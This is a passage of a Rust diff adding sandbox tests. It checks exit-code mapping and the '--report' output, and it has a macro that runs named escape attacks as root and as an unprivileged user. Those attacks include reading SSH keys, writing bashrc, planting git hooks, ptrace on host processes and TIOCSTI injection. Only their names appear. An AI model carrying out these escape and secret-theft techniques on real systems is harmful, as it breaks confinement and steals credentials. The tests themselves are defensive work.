+    assert_eq!(code(&ctx.sh("workspace-write", &[], "exit 3")), Some(3));
+    assert_eq!(
+        code(&ctx.sh("workspace-write", &[], "kill -9 $$")),
+        Some(137)
+    );
+    assert_eq!(
+        code(&ctx.sh("workspace-write", &[], "kill -TERM $$")),
+        Some(143)
+    );
+    let mut cmd = ctx.zot();
+    cmd.args(ctx.sandbox_args("workspace-write"))
+        .args(["--", "no-such-command-zot"]);
+    let o = run_limited(cmd, Duration::from_secs(30));
+    assert_eq!(code(&o), Some(127), "{}", text(&o));
+    std::fs::write(ctx.ws.join("noexec"), "#!/bin/sh\n").unwrap();
+    std::fs::set_permissions(
+        ctx.ws.join("noexec"),
+        std::fs::Permissions::from_mode(0o644),
+    )
+    .unwrap();
+    let mut cmd = ctx.zot();
+    cmd.args(ctx.sandbox_args("workspace-write"))
+        .args(["--", "./noexec"]);
+    let o = run_limited(cmd, Duration::from_secs(30));
+    assert_eq!(code(&o), Some(126), "{}", text(&o));
+    let mut cmd = ctx.zot();
+    cmd.args(ctx.sandbox_args("workspace-write")).args([
+        "--writable-root",
+        "/nonexistent-zot-dir",
+        "--",
+        "/bin/true",
+    ]);
+    let o = run_limited(cmd, Duration::from_secs(30));
+    assert_eq!(code(&o), Some(125), "{}", text(&o));
+}
+
+pub fn report_is_printed(ctx: &Ctx) {
+    let o = ctx.sh("workspace-write", &["--report"], "true");
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    assert!(err.contains(&format!("backend {}", ctx.backend)), "{err}");
+    assert!(err.contains("seccomp: full"), "{err}");
+    assert!(err.contains("network: full"), "{err}");
+}
+
+/// Generates one `#[test]` per attack, as root and as an unprivileged user.
+#[macro_export]
+macro_rules! attack_tests {
+    ($backend:expr; $($name:ident),* $(,)?) => {
+        $(
+            mod $name {
+                #[test]
+                fn as_root() {
+                    if let Some(ctx) = $crate::attacks::Ctx::new($backend, false) {
+                        $crate::attacks::$name(&ctx);
+                    }
+                }
+                #[test]
+                fn as_unprivileged() {
+                    if let Some(ctx) = $crate::attacks::Ctx::new($backend, true) {
+                        $crate::attacks::$name(&ctx);
+                    }
+                }
+            }
+        )*
+    };
+    ($backend:expr) => {
+        $crate::attack_tests!($backend;
+            control_write_read_inside_cwd, control_read_os_release, control_private_tmp_and_own_unix_socket,
+            read_only_mode_refuses_cwd_writes, write_outside_cwd, write_etc, write_bashrc, read_ssh_key,
+            symlink_preplanted, symlink_fresh, git_hooks_and_config, protected_paths_missing, rename_git_aside,
+            nested_repo_hooks, hardlink_from_outside, tcp_loopback, unix_socket_host_path, unix_socket_host_abstract,
+            host_process_ptrace_kill_environ, host_pids_invisible, parent_secret_env, mount_refused,
+            nested_userns_refused, chroot_refused, io_uring_refused, no_new_privs_and_seccomp_on, tiocsti_injection,
+            orphan_grandchild_dies, timeout_kills_tree, output_flood_capped, signal_forwarding, exit_code_mapping,
+            report_is_printed,
+        );
+    };
+}
